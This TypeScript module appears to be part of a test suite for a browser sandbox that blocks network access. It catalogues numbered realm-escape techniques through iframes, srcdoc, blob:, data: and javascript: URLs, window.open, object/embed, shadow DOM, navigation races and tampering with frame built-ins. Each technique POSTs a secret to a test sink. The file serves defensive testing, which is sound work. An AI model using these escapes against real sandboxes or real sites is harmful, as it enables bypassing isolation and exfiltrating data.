import { type Attack, row, type Secret, variant } from '../attack.ts';
import { note } from './bodies.ts';

type Realm = Window & typeof globalThis;

/** Sends from another realm by that realm's own `fetch`. */
function from(realm: Window | null | undefined, secret: Secret): unknown {
  return (realm as Realm | null)?.fetch(`${secret.sink}realm`, { method: 'POST', mode: 'no-cors', body: note(secret.text) });
}

function script(secret: Secret): string {
  return `<script>fetch(${JSON.stringify(`${secret.sink}script`)}, { method: 'POST', mode: 'no-cors', body: ${JSON.stringify(note(secret.text))} })</script>`;
}

function frame(set: (frame: HTMLIFrameElement) => void = () => undefined, parent: Node = document.body): HTMLIFrameElement {
  const made = document.createElement('iframe');
  set(made);
  parent.appendChild(made);
  return made;
}

function loaded(set: (frame: HTMLIFrameElement) => void): Promise<HTMLIFrameElement> {
  return new Promise((resolve) => {
    const made = frame((one) => {
      one.addEventListener('load', () => resolve(made), { once: true });
      set(one);
    });
  });
}

/** Tries again and again while a frame changes its document, ten times over. */
function race(secret: Secret, index: number, navigate: () => void, tries = 400): Promise<void> {
  const sent = new WeakSet<object>();
  return new Promise((resolve) => {
    let left = tries;
    const go = () => {
      if (left % 40 === 0) navigate();
      try {
        const realm = frames[index] as Realm | undefined;
        const own = realm?.fetch;
        if (own && !sent.has(own)) {
          sent.add(own);
          void from(realm, secret);
        }
      } catch {
        // Between two documents the frame may belong to nobody.
      }
      left -= 1;
      if (left > 0) setTimeout(go, 0);
      else resolve();
    };
    go();
  });
}

const MARKUP = '<iframe src="/blank"></iframe>';

/** More ways to put a frame into the document, each used in the same tick: the realm attacks that the LavaMoat/snow project has collected. */
const INSERTIONS: readonly (readonly [id: string, how: string, insert: (place: HTMLElement) => void])[] = [
  ['47d', 'outerHTML', (place) => (place.outerHTML = MARKUP)],
  ['47e', 'a contextual fragment', (place) => place.append(document.createRange().createContextualFragment(MARKUP))],
  [
    '47f',
    'a document of its own that is adopted',
    (place) => {
      const made = new DOMParser().parseFromString(MARKUP, 'text/html').querySelector('iframe');
      if (made) place.append(document.adoptNode(made));
    },
  ],
  [
    '47g',
    'a template that is cloned',
    (place) => {
      const template = document.createElement('template');
      template.innerHTML = MARKUP;
      place.replaceWith(document.importNode(template.content, true));
    },
  ],
  [
    '47h',
    'an editing command',
    (place) => {
      place.contentEditable = 'true';
      place.focus();
      document.execCommand('insertHTML', false, MARKUP);
    },
  ],
  ['47j', 'foreign content', (place) => (place.innerHTML = `<svg><foreignObject>${MARKUP}</foreignObject></svg>`)],
  [
    '47k',
    'insertAdjacentElement',
    (place) => void place.insertAdjacentElement('afterend', Object.assign(document.createElement('iframe'), { src: '/blank' })),
  ],
  [
    '47l',
    'a subclass of the element',
    (place) => {
      const made = document.createElement('iframe');
      Object.setPrototypeOf(made, class extends HTMLIFrameElement {}.prototype);
      made.src = '/blank';
      place.before(made);
    },
  ],
  [
    '47m',
    'a replaced child',
    (place) => {
      const made = document.createElement('iframe');
      made.src = '/blank';
      place.parentNode?.replaceChild(made, place);
    },
  ],
];

function inserted([id, how, insert]: (typeof INSERTIONS)[number]): Attack {
  return variant(id, `frame with src by ${how}`, (secret) => {
    const place = document.createElement('div');
    document.body.append(place);
    const index = frames.length;
    insert(place);
    return from(frames[index], secret);
  });
}

/** Does something to the first realm of a frame, which its document may inherit, and sends from that document. */
async function prepared(secret: Secret, prepare: (realm: Realm) => void): Promise<unknown> {
  const index = frames.length;
  await loaded((made) => {
    made.src = '/blank';
    queueMicrotask(() => prepare(frames[index] as Realm));
  });
  return from(frames[index], secret);
}

/** Realms that page code makes, and uses before or after they are loaded. */
export const FRAMES: readonly Attack[] = [
  row('13', 'about:blank frame, same tick', (secret) => from(frame().contentWindow, secret)),
  variant('13b', 'frame with src, same tick', (secret) => from(frame((made) => (made.src = '/blank')).contentWindow, secret)),
  variant('13c', 'frame with src, by index, same tick', (secret) => {
    const index = frames.length;
    frame((made) => (made.src = '/blank'));
    return from(frames[index], secret);
  }),
  variant('13d', 'frame with srcdoc, same tick', (secret) => from(frame((made) => (made.srcdoc = 'x')).contentWindow, secret)),
  variant('13e', 'lazy frame', (secret) =>
    from(
      frame((made) => {
        made.loading = 'lazy';
        made.src = '/blank';
      }).contentWindow,
      secret,
    ),
  ),
  variant('13f', 'sandboxed frame without scripts', (secret) =>
    from(
      frame((made) => {
        made.sandbox.add('allow-same-origin');
        made.src = '/blank';
      }).contentWindow,
      secret,
    ),
  ),
  variant('13g', 'XMLHttpRequest of a frame with src, same tick', (secret) => {
    const realm = frame((made) => (made.src = '/blank')).contentWindow as Realm;
    const request = new realm.XMLHttpRequest();
    request.open('POST', `${secret.sink}realm-xhr`);
    request.send(note(secret.text));
  }),
  variant('13h', 'nested frame of a frame with src, same tick', (secret) => {
    const outer = frame((made) => (made.src = '/blank')).contentWindow as Realm;
    const inner = outer.document.createElement('iframe');
    inner.src = '/blank';
    outer.document.documentElement.append(inner);
    return from(inner.contentWindow, secret);
  }),
  variant('13i', 'port of a frame’s gate taken before the gate has it', (secret) =>
    prepared(secret, (realm) => {
      const take = (event: Event) => {
        event.stopImmediatePropagation();
        const own = new MessageChannel();
        own.port1.onmessage = ({ data }) => own.port1.postMessage({ id: data.id, kind: 'release' });
        realm.document.dispatchEvent(new MessageEvent('tacit:port', { ports: [own.port2] }));
      };
      realm.addEventListener('tacit:port', take, { capture: true, once: true });
      realm.document.addEventListener('tacit:port', take, { capture: true, once: true });
    }),
  ),
  variant('13j', 'built-ins of a frame changed before its gate stands', (secret) =>
    prepared(secret, (realm) => {
      for (const name of ['apply', 'construct', 'defineProperty', 'getOwnPropertyDescriptor'])
        Reflect.set(realm.Reflect, name, () => undefined);
      Reflect.set(realm, 'Proxy', class {});
      realm.Function.prototype.bind = () => () => undefined;
      realm.document.dispatchEvent = () => true;
    }),
  ),
  row('14', 'function kept from a removed frame', (secret) => {
    const made = frame();
    const kept = (made.contentWindow as Realm).fetch;
    made.remove();
    return kept.call(window, `${secret.sink}kept`, { method: 'POST', body: note(secret.text) });
  }),
  row('15', 'srcdoc frame', (secret) => void frame((made) => (made.srcdoc = script(secret)))),
  row(
    '16',
    'blob: frame',
    (secret) => void frame((made) => (made.src = URL.createObjectURL(new Blob([script(secret)], { type: 'text/html' })))),
  ),
  row('17', 'data: frame', (secret) => void frame((made) => (made.src = `data:text/html,${encodeURIComponent(script(secret))}`))),
  row('18', 'frame inside a srcdoc frame', async (secret) => {
    const outer = (await loaded((made) => (made.srcdoc = '<p>'))).contentWindow as Realm;
    outer.document.body.append(outer.document.createElement('iframe'));
    return from(outer[0], secret);
  }),
  row('19', 'window.open of about:blank', (secret) => from(window.open('about:blank'), secret)),
  variant('19b', 'window.open of an address, same tick', (secret) => from(window.open('/blank'), secret)),
  row('45', 'javascript: frame', (secret) => {
    const code = `fetch(${JSON.stringify(`${secret.sink}javascript`)}, { method: 'POST', body: ${JSON.stringify(note(secret.text))} })`;
    frame((made) => (made.src = `javascript:void(${encodeURIComponent(code)})`));
  }),
  row('46', 'fresh frame by index', (secret) => {
    const index = frames.length;
    document.body.append(document.createElement('iframe'));
    return from(frames[index], secret);
  }),
  row('47', 'frame by insertAdjacentHTML', (secret) => {
    const index = frames.length;
    document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>');
    return from(frames[index], secret);
  }),
  variant('47b', 'frame with src by innerHTML', (secret) => {
    const place = document.createElement('div');
    document.body.append(place);
    const index = frames.length;
    place.innerHTML = '<iframe src="/blank"></iframe>';
    return from(frames[index], secret);
  }),
  variant('47c', 'frame with src by Range.insertNode', (secret) => {
    const index = frames.length;
    const range = document.createRange();
    range.selectNodeContents(document.body);
    range.collapse();
    range.insertNode(Object.assign(document.createElement('iframe'), { src: '/blank' }));
    return from(frames[index], secret);
  }),
  ...INSERTIONS.map(inserted),
  row(
    '48',
    'frame in mid-navigation, race',
    async (secret) => {
      const index = frames.length;
      const made = await loaded((one) => (one.src = '/blank'));
      return race(secret, index, () => made.contentWindow?.location.replace('/blank?slow'));
    },
    { patience: 4_000 },
  ),
  row('49', 'object with about:blank', (secret) => {
    const made = document.createElement('object');
    made.data = 'about:blank';
    document.body.append(made);
    return from(made.contentWindow, secret);
  }),
  variant('49b', 'embed of a page', async (secret) => {
    const index = frames.length;
    const made = document.createElement('embed');
    made.src = '/blank';
    made.type = 'text/html';
    document.body.append(made);
    while (!frames[index]) await new Promise((resolve) => setTimeout(resolve, 0));
    return from(frames[index], secret);
  }),
  row('50', 'frame in a declarative shadow root', (secret) => {
    const place = document.createElement('div');
    document.body.append(place);
    place.setHTMLUnsafe('<div><template shadowrootmode="open"><iframe></iframe></template></div>');
    const made = place.firstElementChild?.shadowRoot?.querySelector('iframe');
    return from(made?.contentWindow, secret);
  }),
  row('51', 'srcdoc with a static frame of its own', (secret) => {
    const inner = `<iframe></iframe><script>frames[0].fetch(${JSON.stringify(`${secret.sink}static`)}, { method: 'POST', body: ${JSON.stringify(note(secret.text))} })</script>`;
    frame((made) => (made.srcdoc = inner));
  }),
  row(
    '52',
    'form navigating a named frame, race',
    async (secret) => {
      const index = frames.length;
      await loaded((one) => {
        one.name = 'raced';
        one.src = '/blank';
      });
      const form = document.createElement('form');
      form.action = '/blank';
      form.target = 'raced';
      document.body.append(form);
      return race(secret, index, () => form.submit());
    },
    { patience: 4_000 },
  ),
  row('59', 'document.write into a frame', (secret) => {
    const inner = frame().contentDocument;
    inner?.open();
    inner?.write(script(secret));
    inner?.close();
  }),
];
